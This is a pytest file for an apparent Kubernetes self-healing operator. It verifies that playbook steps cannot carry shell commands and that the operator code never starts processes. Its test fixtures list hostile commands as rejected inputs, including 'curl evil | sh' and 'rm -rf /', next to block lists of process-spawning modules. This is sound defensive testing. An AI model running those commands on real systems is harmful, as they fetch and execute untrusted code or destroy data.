"""No action runs arbitrary shell commands: the playbook format cannot name one, and no module
of the operator stack can start a process.

- The playbook JSON Schema (``kubeheal playbooks schema``) describes steps as a closed set of
  typed actions (a discriminated union on ``action``, no extra properties anywhere): a step
  with ``command``, ``exec`` or ``script`` is invalid for the schema and for the loader.
- An AST scan of ``src/kubeheal``: only the local-lab helpers (``twin/``, which starts
  Prometheus, Alertmanager and PostgreSQL for tests and the demo, and ``cli/``) may import
  ``subprocess``/``pty`` or call ``os.system``, ``os.popen``, ``os.exec*``, ``os.spawn*`` or
  ``asyncio.create_subprocess_*``.
"""

from __future__ import annotations

import ast
import json
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml

from kubeheal.engine.playbooks import export_json_schema, parse_playbooks

SRC = Path(__file__).resolve().parents[2] / "src" / "kubeheal"
ALLOWED = ("twin", "cli")
"""Top-level packages allowed to start processes (the local lab, never the operator stack)."""
FORBIDDEN_MODULES = {"subprocess", "pty", "pexpect", "sh", "plumbum"}
FORBIDDEN_CALLS = {"system", "popen", "create_subprocess_exec", "create_subprocess_shell"}
SHELL_WORDS = {"command", "commands", "exec", "script", "shell", "args", "run", "cmd"}

PLAYBOOK = """\
name: rollback-on-crash
description: Roll a crash-looping Deployment back.
triggers:
  signals: [CrashLoopBackOff]
  target_kinds: [Deployment]
steps:
  - action: rollback_deployment
verification:
  check: workload_ready
  timeout: 5m
  stable_for: 30s
"""


def _properties(node: Any) -> list[tuple[str, Any]]:
    """Every (property name, subschema) in a JSON Schema, recursively."""
    found: list[tuple[str, Any]] = []
    if isinstance(node, dict):
        for name, sub in (node.get("properties") or {}).items():
            found.append((name, sub))
        for value in node.values():
            found.extend(_properties(value))
    elif isinstance(node, list):
        for value in node:
            found.extend(_properties(value))
    return found


def test_the_schema_has_no_command_field_and_closed_objects() -> None:
    schema = export_json_schema()
    names = {name for name, _ in _properties(schema)}
    assert not names & SHELL_WORDS, names & SHELL_WORDS
    steps = schema["properties"]["steps"]["items"]
    assert steps["discriminator"]["propertyName"] == "action"
    for ref in steps["oneOf"]:
        step = schema["$defs"][ref["$ref"].rsplit("/", 1)[1]]
        assert step["additionalProperties"] is False, step
        assert set(step["properties"]) <= {"action", "params", "description", "name"}, step
        params = step["properties"].get("params")
        if params is not None:
            target = params.get("$ref") or next(
                (a["$ref"] for a in params.get("anyOf", []) if "$ref" in a), None
            )
            if target is not None:
                assert schema["$defs"][target.rsplit("/", 1)[1]]["additionalProperties"] is False


@pytest.mark.parametrize(
    "step",
    [
        {"action": "rollback_deployment", "command": "kubectl rollout undo deploy/x"},
        {"action": "exec", "command": ["sh", "-c", "reboot"]},
        {"action": "restart_pod", "script": "rm -rf /"},
        {"action": "restart_pod", "params": {"exec": "curl evil | sh"}},
        {"exec": "curl evil | sh"},
    ],
)
def test_a_step_naming_a_command_is_rejected(step: dict[str, Any], tmp_path: Path) -> None:
    schema = export_json_schema()
    good = yaml.safe_load(PLAYBOOK)
    jsonschema.validate(json.loads(json.dumps(good)), schema)  # the base is valid
    bad = {**good, "steps": [step]}
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(bad, schema)
    playbooks, issues = parse_playbooks(yaml.safe_dump(bad), file=tmp_path / "bad.yaml")
    assert issues and not playbooks


def _process_starters(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    found: list[str] = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            found += [a.name for a in node.names if a.name.split(".")[0] in FORBIDDEN_MODULES]
        elif isinstance(node, ast.ImportFrom) and node.module:
            if node.module.split(".")[0] in FORBIDDEN_MODULES:
                found.append(node.module)
            if node.module in ("os", "asyncio"):
                found += [
                    f"{node.module}.{a.name}" for a in node.names
                    if a.name in FORBIDDEN_CALLS or a.name.startswith(("exec", "spawn"))
                ]  # fmt: skip
        elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
            owner, attr = node.value.id, node.attr
            if owner == "os" and (attr in FORBIDDEN_CALLS or attr.startswith(("exec", "spawn"))):
                found.append(f"os.{attr}")
            if owner == "asyncio" and attr.startswith("create_subprocess"):
                found.append(f"asyncio.{attr}")
    return found


def test_no_module_of_the_operator_stack_starts_a_process() -> None:
    offenders: dict[str, list[str]] = {}
    scanned = 0
    for path in sorted(SRC.rglob("*.py")):
        package = path.relative_to(SRC).parts[0]
        if package in ALLOWED:
            continue
        scanned += 1
        found = _process_starters(path)
        if found:
            offenders[str(path.relative_to(SRC))] = found
    assert scanned > 50
    assert offenders == {}


def test_the_scan_finds_what_it_looks_for() -> None:
    # The scan itself must work: the lab helpers do start processes.
    assert "subprocess" in _process_starters(SRC / "twin" / "pgserver.py")
